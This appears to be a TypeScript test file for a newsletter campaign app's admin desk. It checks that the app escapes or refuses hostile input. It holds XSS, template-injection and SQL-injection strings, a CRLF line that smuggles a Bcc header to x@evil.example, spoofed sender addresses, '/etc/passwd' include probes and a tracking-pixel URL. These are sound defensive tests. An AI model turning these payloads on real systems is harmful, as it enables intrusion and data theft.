import { randomUUID } from 'node:crypto'
import t from 'tap'
import { narrowCampaign } from '../../src/actions/narrow-campaign.ts'
import { openCampaign } from '../../src/actions/list-campaigns.ts'
import { sendCampaign } from '../../src/actions/send-campaign.ts'
import type { House } from '../../src/actions/house.ts'
import { staffRoles, type StaffRole } from '../../src/domain/staff-role.ts'
import { choicesOf, openApp } from '../support/app.ts'
import { addPerson, yesTo } from '../support/cast.ts'
import { openDesk, type Desk } from '../support/campaign-desk.ts'
import { parsePage } from '../support/html.ts'
import { apart, naughtyStrings } from '../support/in-turn.ts'
import { routesOf } from '../support/routes.ts'
import { sendNow, writeCampaign } from '../support/sending.ts'
import { signedIn, type SignedIn } from '../support/staff.ts'
import { sendFiles } from '../support/upload.ts'

const urlencoded = { 'content-type': 'application/x-www-form-urlencoded' }
const cookieOf = ({ cookie }: Pick<SignedIn, 'cookie'>) => `${cookie.name}=${cookie.value}`

/** What somebody sends who writes requests by hand. */
const press = ({ server }: Pick<Desk, 'server'>, who: SignedIn, url: string, fields: Record<string, string>) =>
  server.inject({
    method: 'POST',
    url,
    headers: { cookie: cookieOf(who), ...urlencoded },
    payload: new URLSearchParams({ seal: who.seal, ...fields }).toString(),
  })

const message = {
  topic: 'repairs',
  subject: 'Five ways to darn',
  inShort: 'Five ways, two minutes each.',
  format: 'markdown',
  sender: 'Fern <news@fern.example>',
  body: 'Hello {{name|there}}.',
  language: '',
  usefulUntil: '',
}

const hostile = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  '{{7*7}}',
  '<%= 7*7 %>',
  '${7*7}',
  '#{7*7}',
]

t.test('attack 26: a hostile name is words in mail, text, pages and the file of a report', async (t) => {
  const desk = await openDesk(t)
  const { house, marketer, parcels } = desk
  const { visit } = marketer
  const ids = []
  for (const [n, name] of hostile.entries()) ids.push(await addPerson(house, `h${n}@example.com`, yesTo([1]), name))
  await writeCampaign(house, 'x')
  for (const [n, name] of hostile.entries()) {
    for (const url of [`/admin/people/${ids[n]}`, `/admin/campaigns/x?as=${ids[n]}`]) {
      await visit.open(url)
      t.same(visit.page.faults, [], url)
      t.ok(visit.page.text.includes(name), `${url}: ${name}`)
    }
    await visit.open(`/admin/campaigns/x/mail?as=${ids[n]}`)
    t.notMatch(visit.html, /<(?:img|script)|Hello 49/i)
  }
  await visit.open('/admin/campaigns/x/people?verdict=now')
  t.same(visit.page.faults, [])
  for (const name of hostile) t.ok(visit.page.text.includes(name), name)
  await sendNow(house, 'x')
  t.equal(parcels.length, hostile.length)
  for (const { mime } of parcels) {
    const [, html = ''] = mime.replaceAll('=\r\n', '').split('Content-Type: text/html')
    t.match(html, 'Hello=20')
    t.notMatch(html, /<(?:img|script)|Hello=2049/i)
  }
  const { body } = await press(desk, marketer, '/admin/campaigns/x/report', { do: 'csv' })
  t.notMatch(body, /<(?:img|script)/)
})

t.test('attack 27: a name with line breaks adds no header to a mail', async (t) => {
  const desk = await openDesk(t, {}, null)
  const { house, marketer, parcels } = desk
  const rows = 'address,name,status,topics,confirmed_at,stopped_at,reason\n'
  const row = '"eve@example.com","Eve\r\nBcc: x@evil.example\r\n\r\nHi",subscribed,repairs,2024-05-06T07:08:09Z,,\n'
  const sent = await sendFiles(desk, marketer, '/admin/people/import', {
    fields: { seal: marketer.seal, format: 'courtesy', pace: 'as-it-happens', words: 'Yes, write to me.' },
    files: [{ name: 'export.csv', content: rows + row }],
  })
  await marketer.visit.open(String(sent.headers.location))
  await marketer.visit.press('Import them')
  await writeCampaign(house, 'x')
  await sendNow(house, 'x')
  const heads = parcels.map(({ mime }) => mime.split('\r\n\r\n', 1)[0] ?? '')
  t.notMatch(heads.join('\n'), /bcc|evil/i)
  t.same(
    parcels.map(({ to }) => to),
    heads.length > 0 ? ['eve@example.com'] : [],
  )
  for (const part of ['subject', 'inShort', 'sender']) {
    const answer = await press(desk, marketer, '/admin/campaigns/new', {
      ...message,
      [part]: `${message.subject}\r\nBcc: x@evil.example`,
    })
    t.equal(answer.statusCode, 422, part)
  }
})

t.test('attack 28: nobody writes in another one’s name, at the campaigns or in the settings', async (t) => {
  const desk = await openDesk(t)
  const admin = await signedIn(desk, 'admin')
  for (const sender of [
    '"ceo@bank.test" <e@e.test>',
    'ceo＠bank.test <e@e.test>',
    'Fern \u202Ekcats <e@e.test>',
    'Fern\u200B <e@e.test>',
    'Fern <e@e.test>, Bank <b@bank.test>',
    'Fern <"x@gmail.com y"@internal.test>',
    'Fern <e@localhost>',
  ]) {
    const answer = await press(desk, desk.marketer, '/admin/campaigns/new', { ...message, sender })
    t.equal(answer.statusCode, 422, sender)
    t.ok(
      parsePage(answer.body).links.some(({ href }) => href === '#sender'),
      sender,
    )
    await admin.visit.open('/admin/settings')
    admin.visit.write('replyTo', sender, 'Save')
    await admin.visit.press('Save')
    t.equal(admin.visit.status, 422, sender)
  }
  const from = async (sender: string) =>
    (await press(desk, desk.marketer, '/admin/campaigns/new', { ...message, sender })).statusCode
  for (const domain of ['bank.test', 'notfern.example', 'fern.example.evil.test']) {
    t.equal(await from(`Bank <ceo@${domain}>`), 422, `${domain} is none of ours`)
  }
  t.equal(await from('Fern <news@mail.fern.example>'), 303)
})

t.test(
  'attacks 45 and 46: a message has exactly one topic, and no field makes it anything but topic mail',
  async (t) => {
    const desk = await openDesk(t)
    const { house, marketer, parcels, server } = desk
    for (const topics of [[], [''], ['nope'], ['repairs', 'new-patterns']]) {
      const { topic: _, ...rest } = message
      const fields = [...Object.entries({ seal: marketer.seal, ...rest }), ...topics.map((topic) => ['topic', topic])]
      const answer = await server.inject({
        method: 'POST',
        url: '/admin/campaigns/new',
        headers: { cookie: cookieOf(marketer), ...urlencoded },
        payload: new URLSearchParams(fields as [string, string][]).toString(),
      })
      t.ok([404, 422].includes(answer.statusCode), topics.join())
    }
    t.same(await house.database.sql`select id from messages`, [])
    await addPerson(house, 'gus@example.com', yesTo([2]))
    const service = { kind: 'service', serviceKind: 'security', service_kind: 'legal', class: 'transactional' }
    const made = await press(desk, marketer, '/admin/campaigns/new', { ...message, ...service })
    t.equal(made.statusCode, 303)
    const [row] = await house.database.sql<{ topic: number; service_kind: string | null }[]>`
    select topic, service_kind from messages`
    t.match(row, { topic: 1, service_kind: null })
    await t.rejects(sendNow(house, 'five-ways-to-darn'), { code: 'refused-by-gate' })
    t.equal(parcels.length, 0, 'who asked for something else gets nothing')
  },
)

t.test('attack 47: nothing in a message is run: it is a field, plain words, or refused', async (t) => {
  const desk = await openDesk(t)
  const { house, marketer } = desk
  for (const body of [
    '{{constructor}}',
    '{{name.constructor}}',
    '{{process.env.HOME}}',
    '{{__proto__}}',
    '{{#each name}}x{{/each}}',
    '{{> /etc/passwd}}',
    '{{include "/etc/passwd"}}',
    '[x](https://fern.example/{{name}})',
  ]) {
    const answer = await press(desk, marketer, '/admin/campaigns/new', { ...message, body })
    t.equal(answer.statusCode, 422, body)
    t.ok(
      parsePage(answer.body).links.some(({ href }) => href === '#body'),
      body,
    )
  }
  const words = '<%= process.env.PATH %> ${7+7} #{7+7} {%include x%} {{name|<b>there</b>}}'
  await press(desk, marketer, '/admin/campaigns/new', { ...message, subject: 'Words', body: words })
  await marketer.visit.open('/admin/campaigns/words/mail')
  t.match(marketer.visit.page.text, '<%= process.env.PATH %> ${7+7} #{7+7} {%include x%}')
  t.match(marketer.visit.html, '&#60;b&#62;there&#60;/b&#62;')
  t.equal((await openCampaign(house, 'words')).state, 'draft')
})

t.test(
  'attack 51: a mail has no picture of a person’s own, and what a picture is asked for by changes nothing',
  async (t) => {
    const desk = await openDesk(t)
    const { house, server, marketer, parcels } = desk
    const people = [
      await addPerson(house, 'ada@example.com', yesTo([1])),
      await addPerson(house, 'eve@example.com', yesTo([1])),
    ]
    await writeCampaign(house, 'x', {
      body: 'Hi ![](https://evil.example/p.gif?to={{name}}) ![](/picture/x.png)',
    }).catch(() => undefined)
    await writeCampaign(house, 'y', { body: 'Hi ![pixel](https://evil.example/p.gif) there' })
    await sendNow(house, 'y')
    t.equal(parcels.length, 2)
    t.notMatch(parcels.map(({ mime }) => mime).join(''), /<img|evil\.example/i)
    const before = await Promise.all(people.map((id) => choicesOf(house, id)))
    for (const [n, { mime }] of parcels.entries()) {
      const token = /127\.0\.0\.1:3000\/p\/([\w-]+)/.exec(mime.replaceAll('=\r\n', ''))?.[1] ?? ''
      t.not(token, '', String(n))
      // A link of a mail, given to staff's pages as who somebody is, is nobody.
      for (const url of [`/admin/people/${token}`, `/admin/campaigns/y?as=${token}`, `/picture/${token}.png`]) {
        const answer = await server.inject({ url, headers: { cookie: cookieOf(marketer) } })
        t.ok(url.includes('as=') ? answer.statusCode === 200 : answer.statusCode === 404, url)
        t.notMatch(answer.headers['set-cookie'] ?? '', 'session')
      }
    }
    t.same(await Promise.all(people.map((id) => choicesOf(house, id))), before)
  },
)

t.test('attack 52: no filter, page or id of the desk reaches a query as anything but a value', async (t) => {
  const desk = await openDesk(t)
  const { house, marketer } = desk
  const { visit } = marketer
  const ada = await addPerson(house, 'ada@example.com', yesTo([1]))
  await writeCampaign(house, 'x')
  const words = ["x'--", '1 or 1=1', 'name;drop table people', '__proto__', 'constructor', '1e9', '-1', '\u0000', '%27']
  for (const word of words) {
    const value = encodeURIComponent(word)
    const same = async (url: string, plain: string) => {
      const shown = await visit.open(plain)
      await visit.open(url)
      t.ok(visit.status < 500, `${url}: ${visit.status}`)
      if (visit.status === 200) t.equal(visit.page.text, shown.text, `${url} is as without`)
    }
    await same(`/admin/conversation?show=${value}`, '/admin/conversation')
    await same(`/admin/people/${ada}?before=${value}`, `/admin/people/${ada}`)
    await same(`/admin/people/${ada}?done=${value}`, `/admin/people/${ada}`)
    for (const url of [
      `/admin/conversation?question=${value}`,
      `/admin/conversation/${value}`,
      `/admin/people/${value}`,
      `/admin/people/import/${value}`,
      `/admin/topics/${value}`,
      `/admin/campaigns/${value}`,
      `/admin/campaigns/x/people?verdict=never&reason=${value}`,
      `/admin/campaigns/x/people?verdict=now&after=${value}`,
      `/admin/campaigns/x/people?state=${value}`,
    ]) {
      await visit.open(url)
      t.ok([400, 404, 422].includes(visit.status), `${url}: ${visit.status}`)
    }
  }
})

/** Who may open what, by where it stands. What is open to nobody in particular is how one comes in. */
const rules: readonly [RegExp, readonly StaffRole[]][] = [
  [/^\/staff(?:\/sign-out)?$/, staffRoles],
  [/^\/admin\/settings(?:\/|$)/, ['admin']],
  [/^\/admin(?:\/|$)/, ['marketer', 'admin']],
  [/^\/audit(?:\/|$)/, ['auditor', 'admin']],
]

/** Everything that a press could have changed, to be compared. */
async function stored({ database: { sql } }: House): Promise<unknown> {
  return [
    await sql`select number from entries`,
    await sql`select * from campaigns`,
    await sql`select * from people`,
    await sql`select * from topics`,
    await sql`select * from brand`,
    await sql`select id, role from staff order by id`,
    await sql`select * from suppressions`,
    await sql`select * from questions`,
    await sql`select * from changes_made`,
    await sql`select * from door_requests`,
    await sql`select * from pictures`,
  ]
}

t.test(
  'attacks 71 and 72: each address of the staff’s opens to its roles alone, and each other try is logged',
  async (t) => {
    const app = await openApp(t)
    const { house, server, log } = app
    await addPerson(house, 'ada@example.com', yesTo([1]))
    await writeCampaign(house, 'x')
    const routes = routesOf(server).filter((path) => /^\/(?:admin|audit|staff)(?:\/|$)/.test(path))
    const known = routes.filter((path) => !path.startsWith('/staff/sign-in'))
    t.ok(known.length > 40, `${known.length} addresses`)
    const staff = new Map<StaffRole, SignedIn>()
    for (const role of staffRoles) staff.set(role, await signedIn(app, role))
    const before = await stored(house)
    let tries = 0
    for (const path of known) {
      const [, allowed] = rules.find(([pattern]) => pattern.test(path)) ?? []
      if (!allowed) {
        t.fail(`nobody said who may open ${path}`)
        continue
      }
      const url = path.replaceAll(':slug', 'x').replaceAll(/:[a-z]+|\*/gi, randomUUID())
      const allow = String((await server.inject({ method: 'OPTIONS', url })).headers.allow)
      const post = { method: 'POST', url } as const
      const out = await server.inject(url)
      t.equal(out.statusCode, 303, `${path}, signed out`)
      t.match(out.headers.location, /^\/staff\/sign-in/, path)
      if (allow.includes('POST')) {
        const answer = await server.inject({ ...post, headers: urlencoded, payload: 'do=csv' })
        t.equal(answer.statusCode, 403, `${path}, pressed by who is signed out`)
      }
      for (const [role, who] of staff) {
        const headers = { cookie: cookieOf(who) }
        if (allowed.includes(role)) {
          const { statusCode, headers: said } = await server.inject({ url, headers })
          t.not(statusCode, 403, `${role} ${path}`)
          t.ok(statusCode < 500, `${role} ${path}: ${statusCode}`)
          t.notMatch(said.location ?? '', '/staff/sign-in')
        } else {
          t.equal((await server.inject({ url, headers })).statusCode, 403, `${role} ${path}`)
          tries++
        }
        if (!allow.includes('POST')) continue
        const seal = allowed.includes(role) ? '' : who.seal
        const payload = new URLSearchParams({ seal, do: 'csv', kind: 'less', what: 'stop', remove: 'yes' }).toString()
        const pressed = await server.inject({ ...post, headers: { ...headers, ...urlencoded }, payload })
        t.equal(pressed.statusCode, 403, `${role} presses ${path}, ${seal === '' ? 'without its seal' : 'sealed'}`)
        if (seal !== '') tries++
      }
    }
    t.same(await stored(house), before, 'none of it did anything')
    const refused = log
      .map((line) => JSON.parse(line) as Record<string, unknown>)
      .filter(({ msg }) => msg === 'refused')
    t.equal(refused.length, tries)
    const names = [...staff].map(([role, one]) => ({ role, staff: one.staff.id }))
    t.ok(refused.every(({ role, staff: id }) => names.some((one) => one.role === role && one.staff === id)))
    t.notMatch(log.join('\n'), /@|%40/, 'and nobody is named')
  },
)

t.test(
  'attack 78: what is edited between the check and the start is another version, and does not start',
  async (t) => {
    const desk = await openDesk(t)
    const { house, parcels } = desk
    for (const name of ['ada', 'eve', 'mo']) await addPerson(house, `${name}@example.com`, yesTo([1]))
    await writeCampaign(house, 'x')
    const narrow = async (addresses: string | null) =>
      narrowCampaign(
        house,
        'x',
        { addresses, keepList: false, languages: [] },
        (await openCampaign(house, 'x')).message,
      )
    await narrow('ada@example.com')
    const { database } = house
    let widened = false
    const begin = async (...given: Parameters<typeof database.readOnly.begin>) => {
      const answer = await database.readOnly.begin(...given)
      if (!widened) await narrow(null)
      widened = true
      return answer
    }
    const readOnly = new Proxy(database.readOnly, {
      get: (of, name) => (name === 'begin' ? begin : Reflect.get(of, name)),
    })
    const meanwhile: House = { ...house, database: { ...database, readOnly } }
    const sending = sendCampaign(meanwhile, 'x', { confirm: 1, progress: () => undefined })
    await t.rejects(sending, { code: 'check-stale' })
    t.ok(widened)
    t.equal(parcels.length, 0, 'three would have got what one was confirmed for')
    t.equal((await openCampaign(house, 'x')).state, 'draft')
  },
)

/** Beside those, what no text in a database can hold. */
const strings = [...naughtyStrings, '\u0000', 'a\u0000b', '\uFFFE']

t.test('attack 79: no string in any form of the desk gives a failure or a broken page', async (t) => {
  const desk = await openDesk(t)
  const { house, server } = desk
  const admin = await signedIn(desk, 'admin')
  const ada = await addPerson(house, 'ada@example.com', yesTo([1]))
  await writeCampaign(house, 'x')
  const version = (await openCampaign(house, 'x')).message
  const forms: Record<string, Record<string, string | null>> = {
    '/admin/campaigns/new': {
      topic: 'repairs',
      subject: null,
      inShort: null,
      sender: null,
      body: null,
      usefulUntil: null,
    },
    '/admin/campaigns/x': { do: 'as', as: null },
    '/admin/campaigns/x/edit': { version, topic: null, subject: null, body: null, language: null },
    '/admin/campaigns/x/narrow': { version, addresses: null, language: null },
    '/admin/campaigns/x/why': { address: null },
    '/admin/campaigns/x/send': { version, confirm: null, asked: null, at: null },
    '/admin/people': { address: null },
    [`/admin/people/${ada}/record`]: {
      kind: 'more',
      'topic-1': 'yes',
      where: null,
      day: null,
      time: null,
      words: null,
    },
    '/admin/people/do-not-contact': { address: null },
    '/admin/topics': { slug: null, name: null, promise: null, expect: null },
    '/admin/topics/repairs': { name: null, promise: null },
    '/admin/conversation/questions': { slug: null, text: null, why: null },
    '/admin/conversation/changes': { form: null, text: null },
    '/admin/settings': { languages: null, colour: null, timeZone: null, quiet: null, weeklySlot: null, ramp: null },
    '/admin/settings/staff': { address: null, name: null, role: null },
  }
  let next = 0
  for (let round = 0; round * 4 * apart < strings.length; round++) {
    const asks = Object.entries(forms).map(([url, fields]) => {
      const filled = Object.entries(fields).map(([name, value]): [string, string] => [
        name,
        value ?? strings[next++ % strings.length] ?? '',
      ])
      return { url, payload: new URLSearchParams([['seal', admin.seal] as [string, string], ...filled]).toString() }
    })
    for (const { url, payload } of asks) {
      const headers = { cookie: cookieOf(admin), ...urlencoded }
      const { statusCode, body } = await server.inject({ method: 'POST', url, headers, payload })
      const faults = statusCode === 303 ? [] : parsePage(body).faults
      if (statusCode >= 500 || faults.length > 0) t.fail(`${url} ${payload}: ${statusCode} ${faults.join(', ')}`)
    }
  }
  for (const url of ['', '/campaigns', '/people/do-not-contact', '/topics', '/conversation', '/settings/staff']) {
    await admin.visit.open(`/admin${url}`)
    t.equal(admin.visit.status, 200, url)
    t.same(admin.visit.page.faults, [], url)
  }
})
